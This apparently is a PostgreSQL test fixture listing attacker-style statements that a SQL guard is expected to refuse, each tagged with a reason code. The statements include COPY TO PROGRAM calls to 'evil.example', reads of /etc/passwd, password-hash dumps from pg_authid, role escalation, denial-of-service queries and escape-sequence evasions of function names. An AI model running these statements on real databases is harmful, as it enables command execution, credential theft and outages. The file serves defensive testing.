-- Statements of an attacker who knows the rules: what acts, in places and spellings that nobody thought of when the rules were
-- written; with a source, what acts in its own functions, views, operators, casts and types.
-- refuse function_not_allowed
SELECT 'pg_sleep(5)'::regprocedure::oid, (SELECT pg_sleep(5)) IS NULL
-- refuse function_not_allowed
SELECT CAST((SELECT 's'::regclass) AS oid), nextval('s'::regclass)
-- refuse function_not_allowed
SELECT nextval(('s' || '')::regclass)
-- refuse function_not_allowed
SELECT nextval('public.s'::text::regclass) FROM generate_series(1, 1000)
-- refuse function_not_allowed
SELECT currval(pg_get_serial_sequence('t', 'id'))
-- refuse function_not_allowed
SELECT setval(pg_get_serial_sequence('t', 'id'), 1, false)
-- refuse function_not_allowed
SELECT pg_advisory_lock(1::int, 2::int)
-- refuse function_not_allowed
SELECT pg_advisory_lock('x'::regclass::int)
-- refuse function_not_allowed
SELECT pg_try_advisory_xact_lock(hashtext('x')::bigint)
-- refuse function_not_allowed
SELECT pg_advisory_unlock_all()
-- refuse function_not_allowed
SELECT pg_sleep_for('5 s'::interval), pg_sleep_until(now() + '5 s')
-- refuse function_not_allowed
SELECT "pg_catalog"."pg_sleep"(VARIADIC ARRAY[5]::float8[])
-- refuse function_not_allowed
SELECT pg_catalog.pg_sleep(seconds => 5)
-- refuse function_not_allowed
SELECT pg_sleep(seconds := 5)
-- refuse function_not_allowed
SELECT x FROM t, LATERAL pg_sleep(x::float8)
-- refuse function_not_allowed
SELECT pg_sleep FROM pg_sleep(5)
-- refuse function_not_allowed
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_sleep(5)) AS x
-- refuse function_not_allowed
SELECT * FROM ROWS FROM (pg_read_file('/etc/passwd') AS (a text)) x
-- refuse function_not_allowed
SELECT t.* FROM t WHERE CASE WHEN true THEN pg_sleep(5) IS NULL END
-- refuse function_not_allowed
SELECT array_agg(pg_sleep(1)) WITHIN GROUP (ORDER BY 1) FROM t
-- refuse function_not_allowed
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) OVER w FROM t WINDOW w AS (ORDER BY pg_sleep(1))
-- refuse function_not_allowed
SELECT sum(1) OVER (ORDER BY id ROWS BETWEEN length(pg_sleep(1)::text) PRECEDING AND CURRENT ROW) FROM t
-- refuse function_not_allowed
SELECT id FROM t LIMIT length(pg_sleep(1)::text)
-- refuse function_not_allowed
SELECT id FROM t OFFSET (SELECT length(pg_sleep(1)::text))
-- refuse function_not_allowed
SELECT id FROM t FETCH FIRST (SELECT nextval('s')) ROWS ONLY
-- refuse function_not_allowed
SELECT DISTINCT ON (pg_sleep(1)) id FROM t
-- refuse function_not_allowed
SELECT id FROM t GROUP BY GROUPING SETS ((id), (pg_sleep(1)))
-- refuse function_not_allowed
SELECT id FROM t TABLESAMPLE BERNOULLI (length(pg_sleep(1)::text))
-- refuse function_not_allowed
SELECT id FROM t TABLESAMPLE SYSTEM (1) REPEATABLE (nextval('s'))
-- refuse function_not_allowed
SELECT id FROM t TABLESAMPLE evil (1)
-- refuse function_not_allowed
SELECT a[length(pg_sleep(1)::text)] FROM t
-- refuse function_not_allowed
SELECT a[1:length(pg_sleep(1)::text)] FROM t
-- refuse function_not_allowed
SELECT (ARRAY[pg_read_file('/etc/passwd')])[1]
-- refuse function_not_allowed
SELECT (ROW (pg_read_file('/etc/passwd'))).f1
-- refuse function_not_allowed
SELECT (x).f1 FROM (SELECT ROW (pg_read_file('/etc/passwd')) AS x) y
-- refuse function_not_allowed
SELECT jsonb_build_object('a', lo_get(1))
-- refuse function_not_allowed
SELECT json_object('a': pg_read_file('/etc/passwd'))
-- refuse function_not_allowed
SELECT JSON_ARRAY(SELECT pg_read_file('/etc/passwd'))
-- refuse function_not_allowed
SELECT JSON_OBJECTAGG('a': pg_sleep(1)::text) FROM t
-- refuse function_not_allowed
SELECT JSON_VALUE('{}', '$' DEFAULT pg_read_file('/etc/passwd') ON EMPTY)
-- refuse function_not_allowed
SELECT JSON_QUERY('{}', '$.a' PASSING nextval('s') AS a)
-- refuse function_not_allowed
SELECT * FROM JSON_TABLE ('[]', '$[*]' COLUMNS (a text PATH '$' DEFAULT pg_read_file('x') ON EMPTY)) AS j
-- refuse function_not_allowed
SELECT xmlelement(name a, pg_read_file('/etc/passwd'))
-- refuse function_not_allowed
SELECT xmlparse(DOCUMENT pg_read_file('/etc/passwd'))
-- refuse function_not_allowed
SELECT xmlserialize(CONTENT lo_get(1)::text::xml AS text)
-- refuse function_not_allowed
SELECT xmlroot(query_to_xml('DELETE FROM t', true, true, ''), VERSION '1.0')
-- refuse function_not_allowed
SELECT xpath('//x', query_to_xml('SELECT * FROM pg_shadow', true, false, ''))
-- refuse function_not_allowed
SELECT table_to_xml('pg_authid'::regclass, true, false, '')
-- refuse function_not_allowed
SELECT database_to_xml_and_xmlschema(true, true, 'x')
-- refuse function_not_allowed
SELECT schema_to_xmlschema('pg_catalog'::regnamespace, true, true, '')
-- refuse function_not_allowed
SELECT cursor_to_xmlschema('c'::refcursor, true, true, '')
-- refuse function_not_allowed
SELECT * FROM XMLTABLE ('/' PASSING query_to_xml('SELECT 1', true, true, '') COLUMNS a text) AS x
-- refuse function_not_allowed
SELECT set_config('search_path', 'evil, public', false)
-- refuse function_not_allowed
SELECT (SELECT set_config('role', 'postgres', true))
-- refuse function_not_allowed relation_not_allowed
SELECT set_config(name, setting, false) FROM pg_settings
-- refuse function_not_allowed
SELECT id FROM t WHERE set_config('transaction_read_only', 'off', true) = 'off'
-- refuse function_not_allowed
WITH x AS MATERIALIZED (SELECT set_config('session_authorization', 'postgres', false)) SELECT * FROM x
-- refuse function_not_allowed
SELECT current_setting('config_file')
-- refuse function_not_allowed
SELECT current_setting('ssl_key_file', true)
-- refuse function_not_allowed
SELECT current_setting(chr(100) || 'ata_directory')
-- refuse statement_not_allowed
SHOW hba_file
-- refuse statement_not_allowed
SHOW ALL
-- refuse statement_not_allowed
SHOW data_directory
-- refuse statement_not_allowed
SET LOCAL work_mem = '1GB'
-- refuse statement_not_allowed
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
-- refuse statement_not_allowed
SET TRANSACTION READ WRITE
-- refuse statement_not_allowed
SET SESSION AUTHORIZATION postgres
-- refuse statement_not_allowed
SET ROLE postgres
-- refuse statement_not_allowed
SET search_path = evil
-- refuse statement_not_allowed
SET TIME ZONE 'UTC'
-- refuse statement_not_allowed
RESET ALL
-- refuse statement_not_allowed
RESET ROLE
-- refuse statement_not_allowed
DISCARD ALL
-- refuse statement_not_allowed
DISCARD PLANS
-- refuse statement_not_allowed
BEGIN READ WRITE
-- refuse statement_not_allowed
START TRANSACTION ISOLATION LEVEL SERIALIZABLE
-- refuse statement_not_allowed
COMMIT AND CHAIN
-- refuse statement_not_allowed
ROLLBACK
-- refuse statement_not_allowed
ABORT
-- refuse statement_not_allowed
END
-- refuse statement_not_allowed
SAVEPOINT a
-- refuse statement_not_allowed
RELEASE SAVEPOINT a
-- refuse statement_not_allowed
ROLLBACK TO a
-- refuse statement_not_allowed
PREPARE TRANSACTION 'x'
-- refuse statement_not_allowed
COMMIT PREPARED 'x'
-- refuse statement_not_allowed
ROLLBACK PREPARED 'x'
-- refuse statement_not_allowed
PREPARE p AS DELETE FROM t
-- refuse statement_not_allowed
PREPARE p (int) AS SELECT $1
-- refuse statement_not_allowed
EXECUTE p
-- refuse statement_not_allowed
EXECUTE p (pg_sleep(1))
-- refuse statement_not_allowed
DEALLOCATE ALL
-- refuse statement_not_allowed
EXPLAIN EXECUTE p
-- refuse explain_option statement_not_allowed
EXPLAIN ANALYZE EXECUTE p
-- refuse statement_not_allowed
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t
-- refuse statement_not_allowed
DECLARE c BINARY INSENSITIVE CURSOR FOR SELECT pg_sleep(1)
-- refuse statement_not_allowed
FETCH ALL FROM c
-- refuse statement_not_allowed
MOVE NEXT c
-- refuse statement_not_allowed
CLOSE ALL
-- refuse statement_not_allowed
LISTEN trap
-- refuse statement_not_allowed
NOTIFY trap, 'x'
-- refuse statement_not_allowed
UNLISTEN *
-- refuse function_not_allowed
SELECT pg_notify('a', 'b') FROM t
-- refuse statement_not_allowed
DO $$ BEGIN PERFORM pg_sleep(1); END $$
-- refuse statement_not_allowed
DO LANGUAGE plpython3u $$ import os $$
-- refuse statement_not_allowed
CALL p()
-- refuse statement_not_allowed
CALL pg_catalog.pg_sleep(1)
-- refuse statement_not_allowed
COPY t TO STDOUT
-- refuse statement_not_allowed
COPY t FROM STDIN
-- refuse statement_not_allowed
COPY (SELECT * FROM t) TO PROGRAM 'curl evil.example'
-- refuse statement_not_allowed
COPY (DELETE FROM t RETURNING *) TO STDOUT
-- refuse statement_not_allowed
COPY t FROM PROGRAM 'id'
-- refuse statement_not_allowed
COPY t (a, b) FROM '/etc/passwd' WITH (FORMAT csv)
-- refuse statement_not_allowed
COPY pg_authid TO '/tmp/x'
-- refuse statement_not_allowed
LOCK TABLE t IN ACCESS EXCLUSIVE MODE
-- refuse statement_not_allowed
LOCK t NOWAIT
-- refuse statement_not_allowed
VACUUM FULL t
-- refuse statement_not_allowed
ANALYZE t
-- refuse statement_not_allowed
CLUSTER t
-- refuse statement_not_allowed
REINDEX DATABASE x
-- refuse statement_not_allowed
CHECKPOINT
-- refuse statement_not_allowed
LOAD 'evil'
-- refuse statement_not_allowed
REFRESH MATERIALIZED VIEW m
-- refuse statement_not_allowed
SECURITY LABEL ON TABLE t IS 'x'
-- refuse statement_not_allowed
COMMENT ON TABLE t IS 'x'
-- refuse statement_not_allowed
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
-- refuse statement_not_allowed
CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT pg_sleep(1)
-- refuse statement_not_allowed
CREATE TEMP TABLE x AS SELECT * FROM t
-- refuse statement_not_allowed
CREATE TEMP VIEW now AS SELECT 1
-- refuse statement_not_allowed
CREATE FUNCTION pg_temp.lower(text) RETURNS text LANGUAGE sql AS 'SELECT pg_read_file($1)'
-- refuse statement_not_allowed
CREATE OPERATOR === (FUNCTION = pg_sleep, RIGHTARG = float8)
-- refuse statement_not_allowed
CREATE CAST (text AS int) WITH INOUT AS IMPLICIT
-- refuse statement_not_allowed
CREATE AGGREGATE a (int) (SFUNC = f, STYPE = int)
-- refuse statement_not_allowed
CREATE DOMAIN d AS int CHECK (pg_sleep(1) IS NULL)
-- refuse statement_not_allowed
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
-- refuse statement_not_allowed
CREATE USER MAPPING FOR x SERVER s
-- refuse statement_not_allowed
CREATE SUBSCRIPTION s CONNECTION '' PUBLICATION p
-- refuse statement_not_allowed
IMPORT FOREIGN SCHEMA a FROM SERVER s INTO b
-- refuse statement_not_allowed
CREATE EXTENSION dblink
-- refuse statement_not_allowed
ALTER SYSTEM SET archive_command = 'curl evil'
-- refuse statement_not_allowed
ALTER ROLE rowcall SUPERUSER
-- refuse statement_not_allowed
ALTER DATABASE d SET search_path = evil
-- refuse statement_not_allowed
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
-- refuse statement_not_allowed
GRANT ALL ON t TO PUBLIC
-- refuse statement_not_allowed
GRANT pg_execute_server_program TO rowcall
-- refuse statement_not_allowed
REVOKE SELECT ON t FROM reader
-- refuse statement_not_allowed
REASSIGN OWNED BY a TO b
-- refuse statement_not_allowed
DROP OWNED BY a
-- refuse statement_not_allowed
TRUNCATE t
-- refuse select_into
SELECT * INTO x FROM t
-- refuse select_into
SELECT * INTO TEMP x FROM t
-- refuse select_into
SELECT * INTO UNLOGGED x FROM t
-- refuse select_into
WITH x AS (SELECT 1) SELECT * INTO y FROM x
-- refuse row_lock
SELECT id FROM t FOR UPDATE
-- refuse row_lock
SELECT * FROM (SELECT id FROM t FOR NO KEY UPDATE) x
-- refuse row_lock
SELECT id FROM t WHERE id IN (SELECT id FROM u FOR SHARE SKIP LOCKED)
-- refuse row_lock
WITH x AS (SELECT id FROM t FOR KEY SHARE NOWAIT) SELECT * FROM x
-- refuse row_lock
SELECT (SELECT id FROM t LIMIT 1 FOR UPDATE OF t)
-- refuse row_lock
SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.id = t.id FOR UPDATE) x
-- refuse row_lock
(SELECT id FROM t FOR UPDATE) UNION ALL (SELECT 1)
-- refuse row_lock
EXPLAIN SELECT id FROM t FOR UPDATE
-- refuse explain_option function_not_allowed
EXPLAIN ANALYZE SELECT pg_sleep(1)
-- refuse explain_option statement_not_allowed
EXPLAIN ANALYZE DELETE FROM t
-- refuse explain_option statement_not_allowed
EXPLAIN (ANALYZE true, BUFFERS) UPDATE t SET a = 1
-- refuse explain_option
EXPLAIN (ANALYZE on) SELECT 1
-- refuse explain_option statement_not_allowed
EXPLAIN (ANALYZE 1, TIMING off) INSERT INTO t VALUES (1)
-- refuse explain_option
EXPLAIN (SERIALIZE, ANALYZE) SELECT 1
-- refuse explain_option statement_not_allowed
EXPLAIN (COSTS, ANALYZE 'true') MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE
-- refuse statement_not_allowed
EXPLAIN CREATE TABLE x AS SELECT 1
-- refuse statement_not_allowed
EXPLAIN DECLARE c CURSOR FOR SELECT 1
-- refuse statement_not_allowed
EXPLAIN REFRESH MATERIALIZED VIEW m
-- refuse relation_not_allowed
SELECT * FROM pg_authid
-- refuse relation_not_allowed
SELECT rolpassword FROM pg_catalog.pg_authid
-- refuse relation_not_allowed
SELECT * FROM pg_shadow
-- refuse relation_not_allowed
SELECT usename, passwd FROM pg_catalog . "pg_shadow"
-- refuse relation_not_allowed
SELECT * FROM pg_stat_activity
-- refuse relation_not_allowed
SELECT query FROM pg_stat_statements
-- refuse relation_not_allowed
SELECT * FROM pg_settings
-- refuse relation_not_allowed
SELECT * FROM pg_file_settings
-- refuse relation_not_allowed
SELECT * FROM pg_hba_file_rules
-- refuse relation_not_allowed
SELECT most_common_vals FROM pg_stats
-- refuse relation_not_allowed
SELECT stavalues1 FROM pg_statistic
-- refuse relation_not_allowed
SELECT stxdmcv FROM pg_statistic_ext_data
-- refuse relation_not_allowed
SELECT * FROM pg_user_mapping
-- refuse relation_not_allowed
SELECT umoptions FROM pg_user_mappings
-- refuse relation_not_allowed
SELECT option_value FROM information_schema.user_mapping_options
-- refuse relation_not_allowed
SELECT subconninfo FROM pg_subscription
-- refuse relation_not_allowed
SELECT * FROM pg_largeobject
-- refuse relation_not_allowed
SELECT * FROM pg_prepared_statements
-- refuse relation_not_allowed
SELECT * FROM pg_cursors
-- refuse relation_not_allowed
SELECT * FROM pg_locks
-- refuse relation_not_allowed
SELECT * FROM pg_replication_slots
-- refuse relation_not_allowed
SELECT * FROM pg_config
-- refuse relation_not_allowed
SELECT * FROM pg_temp.x
-- refuse relation_not_allowed
SELECT * FROM pg_temp_3.x
-- refuse relation_not_allowed
SELECT * FROM pg_toast.pg_toast_1234
-- refuse relation_not_allowed
SELECT * FROM other.public.t
-- refuse relation_not_allowed
SELECT * FROM postgres.pg_catalog.pg_authid
-- refuse function_not_allowed
SELECT pg_get_viewdef(oid), pg_stat_get_activity(1) FROM pg_class
-- refuse function_not_allowed
SELECT (pg_stat_get_activity(NULL)).query
-- refuse function_not_allowed
SELECT (pg_get_backend_memory_contexts()).*
-- refuse function_not_allowed
SELECT (pg_ls_dir('/')).*
-- refuse function_not_allowed
SELECT pg_ls_waldir(), pg_ls_logdir(), pg_ls_archive_statusdir()
-- refuse function_not_allowed
SELECT pg_stat_file('/etc/passwd')
-- refuse function_not_allowed
SELECT pg_read_binary_file('/etc/passwd')::text
-- refuse function_not_allowed
SELECT encode(pg_read_binary_file('x'), 'base64')
-- refuse function_not_allowed
SELECT lo_import('/etc/passwd'), lo_export(1, '/tmp/x')
-- refuse function_not_allowed
SELECT lo_creat(131072), lo_create(0), lo_unlink(1)
-- refuse function_not_allowed
SELECT loread(lo_open(1, 262144), 100)
-- refuse function_not_allowed
SELECT lowrite(lo_open(1, 131072), '\x00')
-- refuse function_not_allowed
SELECT lo_from_bytea(0, decode('00', 'hex')), lo_put(1, 0, '\x00')
-- refuse function_unknown
SELECT dblink('dbname=x', 'DELETE FROM t')
-- refuse function_unknown
SELECT * FROM dblink('', 'SELECT 1') AS t (a int)
-- refuse function_unknown
SELECT dblink_connect('a', 'host=evil'), dblink_exec('a', 'DROP TABLE t')
-- refuse function_unknown
SELECT postgres_fdw_disconnect_all()
-- refuse function_unknown
SELECT * FROM crosstab('DELETE FROM t RETURNING 1')
-- refuse function_unknown
SELECT pg_file_write('x', 'y', true)
-- refuse function_unknown
SELECT pg_prewarm('t')
-- refuse function_not_allowed
SELECT ts_stat('DELETE FROM t')
-- refuse function_not_allowed
SELECT ts_rewrite('a'::tsquery, 'DELETE FROM t RETURNING ''a''::tsquery, ''b''::tsquery')
-- refuse function_not_allowed
SELECT pg_terminate_backend(pid) FROM generate_series(1, 40000) AS pid
-- refuse function_not_allowed
SELECT pg_cancel_backend(pg_backend_pid() + 1)
-- refuse function_not_allowed
SELECT pg_reload_conf(), pg_rotate_logfile(), pg_promote()
-- refuse function_not_allowed
SELECT pg_switch_wal(), pg_create_restore_point('x')
-- refuse function_not_allowed
SELECT pg_backup_start('x'), pg_backup_stop()
-- refuse function_not_allowed
SELECT pg_create_logical_replication_slot('x', 'test_decoding')
-- refuse function_not_allowed
SELECT pg_logical_emit_message(false, 'a', 'b')
-- refuse function_not_allowed
SELECT pg_replication_origin_create('x')
-- refuse function_not_allowed
SELECT pg_stat_reset_shared('bgwriter'), pg_stat_reset_single_table_counters(1)
-- refuse function_not_allowed
SELECT pg_export_snapshot()
-- refuse function_not_allowed
SELECT txid_current(), pg_current_xact_id()
-- refuse function_not_allowed
SELECT pg_current_wal_lsn(), pg_walfile_name('0/0')
-- refuse function_not_allowed
SELECT setseed(0.5), random()
-- refuse function_not_allowed
SELECT lastval()
-- refuse function_not_allowed
SELECT binary_upgrade_set_next_pg_type_oid(1)
-- refuse function_not_allowed
SELECT pg_nextoid('pg_class', 'oid', 'x')
-- refuse function_not_allowed
SELECT currtid2('t', '(0,1)')
-- refuse function_not_allowed
SELECT pg_extension_config_dump('t', '')
-- refuse function_not_allowed
SELECT pg_event_trigger_dropped_objects()
-- refuse function_not_allowed
SELECT brin_summarize_new_values('i'), gin_clean_pending_list('i')
-- refuse function_not_allowed
SELECT pg_import_system_collations('public')
-- refuse function_unknown
SELECT pg_set_attribute_stats('relation', 't')
-- refuse function_not_allowed
SELECT pg_restore_relation_stats('relation', 't')
-- refuse function_not_allowed
SELECT pg_clear_attribute_stats('public', 't', 'a', false)
-- refuse function_not_allowed
SELECT int4in('1'), textout('a'), record_in('(1)', 0, 0)
-- refuse function_not_allowed
SELECT plpgsql_call_handler()
-- refuse function_unknown
SELECT RI_FKey_check_ins()
-- refuse function_not_allowed
SELECT suppress_redundant_updates_trigger()
-- refuse function_not_allowed
SELECT pg_ddl_command_in('x')
-- refuse too_much_work
SELECT repeat('x', 2000000000)
-- refuse too_much_work
SELECT lpad('x', 1000000000)
-- refuse too_much_work
SELECT array_fill(1, ARRAY[100000, 100000])
-- refuse too_much_work
SELECT generate_series(1, 10000000000)
-- refuse too_much_work
SELECT count(*) FROM generate_series(1, 1000000) a, generate_series(1, 1000000) b
-- refuse too_much_work
SELECT string_agg(repeat('x', 1000000), '') FROM generate_series(1, 10000000)
-- refuse too_much_work
WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM x) SELECT count(*) FROM x
-- refuse too_much_work
WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n FROM x, x2), x2 AS (SELECT 1) SELECT * FROM x
-- refuse too_much_work
SELECT 'aaaaaaaaaaaaaaaaaaaa' ~ '((((a{1,100}){1,100}){1,100}){1,100})b'
-- refuse parameter
SELECT $1
-- refuse syntax_error
SELECT * FROM t WHERE a = :x
-- refuse syntax_error
SELECT 1\;DELETE FROM t
-- refuse function_not_allowed
INSERT INTO t VALUES (pg_read_file('/etc/passwd'))
-- refuse function_not_allowed
INSERT INTO t DEFAULT VALUES RETURNING pg_sleep(1)
-- refuse function_not_allowed
INSERT INTO t SELECT nextval('s')
-- refuse function_not_allowed
INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = length(pg_sleep(1)::text)
-- refuse function_not_allowed
UPDATE t SET a = lo_import('/etc/passwd')::int
-- refuse function_not_allowed
UPDATE t SET a = 1 FROM pg_sleep(1)
-- refuse function_unknown
DELETE FROM t USING dblink('', '') AS x (a int)
-- refuse function_not_allowed
DELETE FROM t WHERE pg_sleep(1) IS NULL
-- refuse function_not_allowed
MERGE INTO t USING (SELECT pg_sleep(1) AS a) u ON true WHEN MATCHED THEN DO NOTHING
-- refuse function_not_allowed
MERGE INTO t USING u ON t.id = u.id WHEN NOT MATCHED THEN INSERT VALUES (set_config('a.b', 'c', false))
-- refuse function_not_allowed
WITH x AS (DELETE FROM t RETURNING pg_read_file('x')) SELECT * FROM x
-- refuse target_not_allowed
WITH x AS (INSERT INTO pg_authid DEFAULT VALUES RETURNING 1) SELECT * FROM x
-- refuse target_not_allowed
UPDATE pg_catalog.pg_authid SET rolsuper = true
-- refuse target_not_allowed
DELETE FROM pg_class
-- refuse relation_not_allowed
INSERT INTO pg_temp.x VALUES (1)
-- refuse target_not_allowed
INSERT INTO information_schema.sql_features DEFAULT VALUES
-- refuse node_not_allowed
DELETE FROM t WHERE CURRENT OF c
-- refuse function_not_allowed
SELECT U&"pg_sl\0065ep"(1)
-- refuse function_not_allowed
SELECT U&"pg\+00005Fsleep"(1)
-- refuse function_not_allowed
SELECT pg_catalog.U&"pg_sleep"(1)
-- refuse function_not_allowed
SELECT E'\x27; DROP TABLE t; --', pg_sleep(1)
-- refuse operator_not_allowed
SELECT 1 OPERATOR(evil.+) 1
-- refuse operator_not_allowed
SELECT 1 OPERATOR(pg_temp.=) 1
-- refuse operator_not_allowed
SELECT a FROM t ORDER BY a USING OPERATOR(evil.<)
-- refuse operator_not_allowed
SELECT a FROM t WHERE a OPERATOR(public.@@@) ANY (ARRAY[1])
-- refuse type_not_allowed
SELECT 1::evil.type
-- refuse type_not_allowed
SELECT CAST('x' AS pg_temp.dom)
-- refuse type_not_allowed
SELECT 'x'::cstring, 'x'::internal, '1'::pg_node_tree
-- refuse type_not_allowed
SELECT 'x'::trigger, NULL::event_trigger
-- refuse function_not_allowed function_unknown
SELECT evil.lower('x'), pg_temp.now()
-- refuse function_not_allowed
SELECT * FROM pg_temp.pg_sleep(1)
-- refuse function_not_allowed
SELECT (0.1::float8).pg_sleep, (t.x).pg_sleep FROM t
-- refuse function_not_allowed
SELECT x.pg_sleep FROM (VALUES (0.1::float8)) AS x
-- refuse function_not_allowed
SELECT x.pg_ls_dir FROM unnest(ARRAY['/']) AS x
-- refuse function_not_allowed
SELECT (ARRAY['/etc/passwd'])[1].pg_read_file
-- refuse function_not_allowed
SELECT t.nextval FROM (SELECT 's'::regclass) AS t
-- refuse function_not_allowed
SELECT r.lo_get FROM generate_series(1::oid::int, 2) AS r
-- refuse function_not_allowed
SELECT ('/etc/passwd'::text).pg_read_file
-- refuse function_not_allowed
SELECT (('x','y')).set_config
-- refuse function_not_allowed
SELECT COALESCE(t.*, pg_sleep(1)::text) FROM t
-- refuse function_not_allowed
SELECT 1 WHERE (SELECT pg_sleep(1)) IS NOT DISTINCT FROM NULL
-- refuse function_not_allowed
SELECT 1 = ANY (SELECT length(pg_sleep(1)::text))
-- refuse function_not_allowed
SELECT ARRAY(SELECT pg_ls_dir('/'))
-- refuse function_not_allowed
VALUES ((SELECT pg_read_file('/etc/passwd')))
-- refuse relation_not_allowed
TABLE pg_authid
-- refuse relation_not_allowed
TABLE ONLY pg_shadow
-- refuse relation_not_allowed
EXPLAIN TABLE pg_authid
-- refuse relation_not_allowed
SELECT * FROM ONLY (pg_authid)
-- refuse relation_not_allowed
SELECT * FROM pg_authid *
-- refuse relation_not_allowed
SELECT a.rolpassword FROM t, pg_authid a
-- refuse relation_not_allowed
SELECT * FROM t NATURAL JOIN pg_shadow
-- refuse relation_not_allowed
SELECT (SELECT string_agg(rolname || rolpassword, ',') FROM pg_authid)
-- refuse relation_not_allowed
SELECT pg_authid FROM pg_authid
-- refuse relation_not_allowed
SELECT 'pg_authid'::regclass, (SELECT count(*) FROM pg_authid)
-- refuse function_not_allowed [catalogue]
SELECT shop.touch(1)
-- refuse function_not_allowed [catalogue]
SELECT touch(id) FROM orders
-- refuse function_not_allowed [catalogue]
SELECT mixed(1)
-- refuse function_not_allowed [catalogue]
SELECT upper(name::text) FROM customers
-- refuse function_not_allowed [catalogue]
SELECT as_owner()
-- refuse relation_not_allowed [catalogue]
SELECT * FROM noisy_view
-- refuse relation_not_allowed [catalogue]
SELECT count(*) FROM (SELECT * FROM shop.noisy_view) AS x
-- refuse relation_not_allowed [catalogue]
SELECT id FROM orders WHERE EXISTS (SELECT 1 FROM noisy_view)
-- refuse function_not_allowed [catalogue]
SELECT noisy_total(total) FROM orders
-- refuse function_not_allowed [catalogue]
SELECT noisy_total(total) OVER (PARTITION BY status) FROM orders
-- refuse function_not_allowed [catalogue]
SELECT noisy_total(total) FILTER (WHERE id > 1) FROM orders
-- refuse operator_not_allowed [catalogue]
SELECT !!! id FROM orders
-- refuse operator_not_allowed [catalogue]
SELECT id OPERATOR(shop.!!!) 1 FROM orders
-- refuse operator_not_allowed [catalogue]
SELECT 1 FROM orders ORDER BY !!! id
-- refuse operator_not_allowed [catalogue]
SELECT price || 'x' FROM prices
-- refuse operator_not_allowed [catalogue]
SELECT price ** 2 FROM prices
-- refuse type_not_allowed [catalogue]
SELECT 'x'::noisy_domain
-- refuse type_not_allowed [catalogue]
SELECT CAST(id::text AS shop.noisy_domain) FROM orders
-- refuse type_not_allowed [catalogue]
SELECT x::shop.noisy_domain[] FROM (SELECT '{a}' AS x) AS y
-- refuse type_not_allowed [catalogue]
SELECT * FROM jsonb_to_record('{"a": "x"}') AS x (a shop.noisy_domain)
-- refuse type_not_allowed [catalogue]
SELECT jsonb_populate_record(NULL::shop.noisy_domain, '{}')
-- refuse function_not_allowed [catalogue]
SELECT sneaky('DELETE FROM orders')
-- refuse function_not_allowed [catalogue]
SELECT snake('import os')
-- refuse function_not_allowed [catalogue]
SELECT native('x')
-- refuse function_not_allowed [catalogue]
SELECT proc()
-- refuse statement_not_allowed [catalogue]
CALL shop.proc()
-- refuse relation_not_allowed [catalogue]
SELECT * FROM rowcall.applied_change
-- refuse function_not_allowed [catalogue]
SELECT rowcall.own()
-- refuse function_not_allowed [catalogue]
SELECT set_limit(0.1)
-- refuse function_not_allowed [catalogue]
SELECT * FROM crosstab('SELECT 1')
-- refuse function_not_allowed [catalogue]
SELECT * FROM dblink('x', 'y') AS t (a int)
-- refuse function_not_allowed [catalogue]
SELECT e.touch FROM events AS e, orders AS o WHERE (o.id).touch > 1
-- refuse function_not_allowed [catalogue]
SELECT (o).touch FROM orders o
-- refuse function_not_allowed [catalogue]
SELECT o.touch FROM orders o
-- refuse function_not_allowed [catalogue]
SELECT x.sneaky FROM unnest(ARRAY['DELETE FROM orders']) AS x
-- refuse function_not_allowed [catalogue]
SELECT totals.pg_backend_pid, t.pg_notify FROM totals, (SELECT 1) t
-- refuse relation_not_allowed [catalogue]
SELECT * FROM pg_stat_statements
-- refuse relation_unknown [catalogue]
SELECT * FROM nowhere
-- refuse target_not_allowed [catalogue]
UPDATE shop.totals SET id = 1
-- refuse target_not_allowed [catalogue]
INSERT INTO noisy_view VALUES (1)
-- refuse function_not_allowed [catalogue]
UPDATE orders SET total = touch(id)
-- refuse relation_not_allowed [catalogue]
INSERT INTO orders (id) SELECT id FROM noisy_view
-- refuse operator_not_allowed [catalogue]
DELETE FROM orders WHERE !!! id > 1
-- refuse relation_not_allowed [catalogue]
UPDATE rowcall.applied_change SET id = 2
-- refuse function_not_allowed [catalogue]
WITH lower AS (SELECT 1) SELECT touch(1) FROM lower
-- refuse function_not_allowed [catalogue]
WITH touch AS (SELECT 1 AS id) SELECT touch(id) FROM touch
-- refuse function_not_allowed [catalogue]
SELECT lag(touch(id)) OVER () FROM orders
-- refuse function_not_allowed [catalogue]
SELECT max(id) FROM orders GROUP BY touch(id)
-- refuse function_not_allowed [catalogue]
SELECT id FROM orders UNION SELECT touch(1)
-- refuse function_not_allowed [catalogue]
EXPLAIN SELECT touch(id) FROM orders
-- refuse explain_option [catalogue]
EXPLAIN (ANALYZE) SELECT id FROM orders
